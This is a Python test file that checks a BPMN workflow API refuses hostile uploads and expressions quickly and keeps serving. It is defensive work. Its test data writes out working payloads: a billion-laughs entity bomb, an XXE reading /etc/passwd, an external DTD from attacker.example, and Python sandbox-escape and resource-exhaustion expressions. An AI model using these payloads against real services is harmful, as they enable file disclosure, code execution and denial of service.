"""Hostile uploads and expressions over HTTP: refused with a clear 4xx, quickly, nothing
stored, and the service keeps answering."""

from __future__ import annotations

import gc
import io
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.api.conftest import V1, ApiClient, multipart, ok, problem
from tests.engine.modeling.test_lint import bpmn

QUICK = 1.0  # seconds: the bound for refusing a hostile upload

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"
  targetNamespace="x"><bpmn:process id="lolz" name="&lol9;" isExecutable="true" />
</bpmn:definitions>"""
XXE = LAUGHS.split(b"<!DOCTYPE")[0] + (
    b'<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" '
    b'targetNamespace="x"><bpmn:process id="xxe" name="&secret;" isExecutable="true" />'
    b"</bpmn:definitions>"
)
NETWORK_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">'
    b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" '
    b'targetNamespace="x" />'
)
# no DTD at all, but 100,000 elements deep: the parser's depth limit stops it
DEEP = (
    b'<?xml version="1.0"?><bpmn:definitions '
    b'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">'
    + b"<a>" * 100_000
    + b"</a>" * 100_000
    + b"</bpmn:definitions>"
)
BIG_FILE = bpmn().replace(b"</bpmn:definitions>", b"<!--" + b"x" * (6 * 1024 * 1024) + b"-->")


@contextmanager
def quick() -> Iterator[None]:
    # CPU seconds of this thread (the test client runs the app in it): the work done to
    # refuse, which other processes on a shared machine cannot inflate as they do wall
    # time, nor threads earlier tests left behind. The garbage of those tests is collected
    # first: a full collection of it once landed in here and took a second (a fresh CI run)
    gc.collect()
    began = time.thread_time()
    yield
    assert time.thread_time() - began < QUICK


def upload(client: ApiClient, name: str, content: bytes) -> dict[str, object]:
    with quick(), client.unchanged():
        response = client.post(
            f"{V1}/definitions",
            "owner",
            data=multipart([(name, content)]),
            content_type="multipart/form-data",
        )
        body = problem(response, 422, "diagram-invalid")
    ok(client.get(f"{V1}/health"))  # still answering
    return body


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (LAUGHS, "not allowed"),
        (XXE, "not allowed"),
        (NETWORK_DTD, "not allowed"),
        (DEEP, ""),
        (BIG_FILE, "larger than 5 MiB"),
        (b"\xff\xfe<definitions/>", ""),
        (b"", ""),
    ],
    ids=["billion-laughs", "xxe", "network-dtd", "100k-deep", "6-MiB", "not-utf8", "empty"],
)
def test_hostile_diagrams_are_refused_quickly(
    client: ApiClient, content: bytes, reason: str
) -> None:
    body = upload(client, "evil.bpmn", content)
    [error] = body["errors"]  # type: ignore[misc]
    assert error["file"] == "evil.bpmn"  # type: ignore[index]
    assert reason in error["message"]  # type: ignore[index]
    assert "root:" not in str(body)  # nothing of /etc/passwd came back


def test_a_hostile_form_is_refused(client: ApiClient) -> None:
    nested = b'{"components": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    upload(client, "evil.form", nested)
    upload(client, "evil.form", b'{"components": [{"type": "textfield", "key": "__class__"}]}')


def test_an_upload_over_the_limit_is_413_and_the_service_goes_on(client: ApiClient) -> None:
    with quick(), client.unchanged():
        response = client.post(
            f"{V1}/definitions",
            "owner",
            data=multipart([("big.bpmn", b"x" * (30 * 1024 * 1024))]),
            content_type="multipart/form-data",
        )
        problem(response, 413)
    ok(client.get(f"{V1}/health"))


@pytest.mark.parametrize(
    "condition",
    [
        "__import__('os').system('touch /tmp/pwned')",
        "().__class__.__base__.__subclasses__()",
        "'{0.__class__}'.format(amount)",
        "f'{amount.__class__}'",
        "[x for x in range(10**9)]",
        "(lambda: 1)()",
    ],
)
def test_hostile_expressions_are_refused_at_deploy(client: ApiClient, condition: str) -> None:
    task = '<bpmn:exclusiveGateway id="g" />'
    content = bpmn(task, conditions={"f2": condition})
    body = upload(client, "probe.bpmn", content)
    assert any(e["element"] == "f2" for e in body["errors"])  # type: ignore[attr-defined,index]


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("padding = 'x' * size", "too long"),  # a gigabyte string from the data
        ("n = 9 ** 9 ** 9", "exponent"),  # constant, but only evaluating shows its size
        ("rows = [[0] * size] * size", "too"),
        ("s = '%999999999d' % size", "not allowed"),
    ],
)
def test_an_expression_that_explodes_at_run_is_contained(
    client: ApiClient, script: str, words: str
) -> None:
    """Static checks cannot know the data: what would build gigabytes or run for hours
    stops at the evaluator's budget, quickly, as a 422; nothing stays."""
    task = (
        '<bpmn:scriptTask id="grow" scriptFormat="python"><bpmn:script>'
        f"{script}</bpmn:script></bpmn:scriptTask>"
    )
    client.deploy([("probe.bpmn", bpmn(task))])
    with quick(), client.unchanged():
        response = client.post(
            f"{V1}/instances", "owner", json={"definition": "probe", "variables": {"size": 10**9}}
        )
        body = problem(response, 422, "process-failed")
    assert words in body["detail"], body
    ok(client.get(f"{V1}/health"))


def test_a_json_body_over_a_mebibyte_is_413(client: ApiClient) -> None:
    """Only uploads of diagrams may be large; other bodies are refused unread."""
    client.deploy([("probe.bpmn", bpmn())])
    body = '{"definition": "probe", "variables": {"note": "' + "x" * (1024 * 1024) + '"}}'
    with quick(), client.unchanged():
        response = client.post(
            f"{V1}/instances", "owner", data=body, content_type="application/json"
        )
        problem(response, 413)
    # under the body limit but over the variables' own: 422, naming the limit
    body = '{"definition": "probe", "variables": {"note": "' + "x" * (600 * 1024) + '"}}'
    with client.unchanged():
        response = client.post(
            f"{V1}/instances", "owner", data=body, content_type="application/json"
        )
        assert "262,144" in problem(response, 422)["detail"]


@pytest.mark.parametrize("size", [1024 * 1024 + 1, 5 * 1024 * 1024])
def test_a_chunked_json_body_over_a_mebibyte_is_413_not_cut_short(
    client: ApiClient, size: int
) -> None:
    """A body without a length (Transfer-Encoding: chunked) is read up to the limit; more
    is refused, where the app would otherwise see its first mebibyte as all of it (here,
    valid JSON followed by spaces)."""
    client.deploy([("probe.bpmn", bpmn())])
    start = b'{"definition": "probe"}'
    with client.unchanged():
        response = client.post(
            f"{V1}/instances",
            "owner",
            input_stream=io.BytesIO(start + b" " * (size - len(start))),
            headers={"Transfer-Encoding": "chunked", "Content-Type": "application/json"},
        )
        problem(response, 413)
    response = client.post(
        f"{V1}/instances",
        "owner",
        input_stream=io.BytesIO(start + b" " * 1000),
        headers={"Transfer-Encoding": "chunked", "Content-Type": "application/json"},
    )
    ok(response, 201)  # under the limit: read whole, as any body
